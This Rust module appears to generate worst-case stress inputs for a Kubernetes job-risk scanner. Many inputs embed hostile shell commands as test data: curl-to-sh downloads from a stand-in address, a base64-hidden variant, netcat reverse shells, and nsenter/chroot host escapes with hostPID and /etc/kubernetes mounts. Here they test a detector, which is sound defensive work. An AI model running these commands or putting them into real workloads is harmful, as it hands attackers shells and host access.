//! Inputs as large as an API server stores, each made to be as expensive as possible in one way.

use jobrisk::workload::Kind;
use serde_json::{Value, json};

use super::records::whole;

/// What etcd stores of one object by default, in bytes.
pub const SIZE: usize = 1_500_000;

/// A piece that is repeated until the input has its size: as a script, or as the text of a file.
struct Shape {
    name: &'static str,
    before: &'static str,
    piece: &'static str,
}

const fn shape(name: &'static str, before: &'static str, piece: &'static str) -> Shape {
    Shape { name, before, piece }
}

const SCRIPTS: [Shape; 24] = [
    shape("one word", "", "a"),
    shape("many commands", "", "echo a;"),
    shape("many words", "echo", " a"),
    shape("many empty words", "nc", " ''"),
    shape("one pipeline", "curl http://192.0.2.1/x", "|sh"),
    shape("open substitutions", "", "$("),
    shape("open quotes in substitutions", "", "\"$("),
    shape("open parameters", "", "${a:-"),
    shape("open braces", "", "{a,"),
    shape("open groups", "", "{ ("),
    shape("open keywords", "", "if "),
    shape("open functions", "", "f(){ "),
    shape("open here-documents", "", "<<E "),
    shape("backquotes", "", "`\\"),
    shape("assignments that grow", "a=aaaaaaaa;", "a=$a$a;"),
    shape("variables that are used", "a=http://192.0.2.1/x;", "curl $a|sh;"),
    shape("scripts in scripts", "", "sh -c 'eval \"curl http://192.0.2.1/x|sh\"';"),
    shape("decoded scripts", "", "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3h8c2g=|base64 -d|sh;"),
    shape("files that are run", "", "echo 'nc -e sh 192.0.2.1 1'>/tmp/a;chmod +x /tmp/a;/tmp/a;"),
    shape("code in code", "", "python3 -c 'import os;os.system(\"python3 -c 1\")';"),
    shape("encoded text", "echo ", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo"),
    shape("escapes", "echo -e '", "\\x41\\101\\u0041"),
    shape("secrets", "nc -e /bin/sh 192.0.2.1 1", " --password=hunter2"),
    shape("addresses", "nc -e /bin/sh", " http://u:p@192.0.2.1:1/x"),
];

const FILES: [Shape; 10] = [
    shape("empty documents", "", "---\n"),
    shape("small documents", "", "---\nkind: Job\n"),
    shape(
        "documents with findings",
        "",
        "---\nkind: Job\nspec: {template: {spec: {hostPID: true, containers: [{args: [nc -e sh 192.0.2.1 1]}]}}}\n",
    ),
    shape("objects of a list", "kind: List\nitems:\n", "- {kind: CronJob, spec: {schedule: '* * * * *'}}\n"),
    shape("open lists", "", "["),
    shape("open fields", "", "{a: "),
    shape("open JSON", "", "{\"kind\":"),
    shape("nested items", "", "- "),
    shape("aliases", "a: &a [x]\nb:\n", "- *a\n"),
    shape("merge keys", "a: &a {x: 1}\nb:\n", "- {<<: *a}\n"),
];

/// Files with one object or with text that is no object, by name.
pub fn all(size: usize) -> Vec<(&'static str, Vec<u8>)> {
    let mut all = pods(size);
    all.extend(FILES.iter().map(|shape| (shape.name, shape.text(size).into_bytes())));
    all
}

/// For the target `object`.
pub fn objects() -> Vec<Vec<u8>> {
    pods(SIZE).into_iter().map(|(_, file)| file).collect()
}

/// For the target `manifest`.
pub fn manifests() -> Vec<Vec<u8>> {
    FILES.iter().map(|shape| shape.text(SIZE).into_bytes()).collect()
}

/// For the target `shell`.
pub fn scripts() -> Vec<Vec<u8>> {
    SCRIPTS.iter().map(|shape| shape.text(SIZE).into_bytes()).collect()
}

impl Shape {
    fn text(&self, size: usize) -> String {
        let room = size.saturating_sub(self.before.len());
        format!("{}{}", self.before, self.piece.repeat(room / self.piece.len()))
    }
}

fn pods(size: usize) -> Vec<(&'static str, Vec<u8>)> {
    let file = |pod: Value| serde_json::to_vec(&whole(Kind::Job, "n", &pod)).unwrap();
    let script = |shape: &Shape, size: usize| {
        let command = json!(["/bin/bash", "-c", shape.text(size)]);
        file(json!({"containers": [{"name": "c", "command": command}]}))
    };
    let mut all: Vec<(&'static str, Vec<u8>)> = Vec::new();
    for shape in &SCRIPTS {
        // JSON is longer than the script in it, by its escapes.
        let length = script(shape, size).len();
        all.push((shape.name, script(shape, (size * size / length).saturating_sub(1000))));
    }

    let many = |each: fn(usize) -> Value| {
        let count = (size - 1000) / (each(size).to_string().len() + 1);
        (0..count).map(each).collect::<Vec<Value>>()
    };
    let arguments = many(|number| json!(format!("a{number}")));
    all.push(("many arguments", file(json!({"containers": [{"name": "c", "command": arguments}]}))));
    let containers =
        many(|_| json!({"name": "c", "image": "ncat", "command": ["nc", "-e", "sh", "192.0.2.1", "1"]}));
    all.push(("many containers", file(json!({"containers": containers}))));
    let volumes =
        many(|number| json!({"name": format!("v{number}"), "hostPath": {"path": "/etc/kubernetes"}}));
    let mounts = many(|number| json!({"name": format!("v{number}"), "mountPath": "/a", "subPath": "b"}));
    let half = |list: Vec<Value>| list[..list.len() / 2].to_vec();
    let container = json!({"name": "c", "volumeMounts": half(mounts)});
    all.push(("many volumes", file(json!({"containers": [container], "volumes": half(volumes)}))));
    let env = many(
        |number| json!({"name": format!("A{}", number + 1), "value": format!("$(A{number})$(A{number})")}),
    );
    let container =
        json!({"name": "c", "env": env, "command": ["sh", "-c", "nc -e /bin/sh $(A9) $A99 $(A999)"]});
    all.push(("an environment that grows", file(json!({"containers": [container]}))));
    // Whatever a rule shows is searched for values of the environment.
    let hits = "nc -e sh 192.0.2.1 1;curl http://192.0.2.1/x|sh;nsenter -t 1 -m sh;nmap 10.0.0.0/8;chroot /host sh\n";
    let shown = hits.replace(';', &format!(" {};", "y ".repeat(1500)));
    let env = many(|number| json!({"name": format!("A{number}"), "value": format!("y y y {number}")}));
    let container = json!({"name": "c", "env": env[..env.len() / 2], "command": ["sh", "-c", shown]});
    all.push(("an environment that is searched", file(json!({"containers": [container]}))));
    let wrong = many(|number| json!([number]));
    all.push(("many wrong values", file(json!({"containers": wrong, "tolerations": 1}))));
    all
}
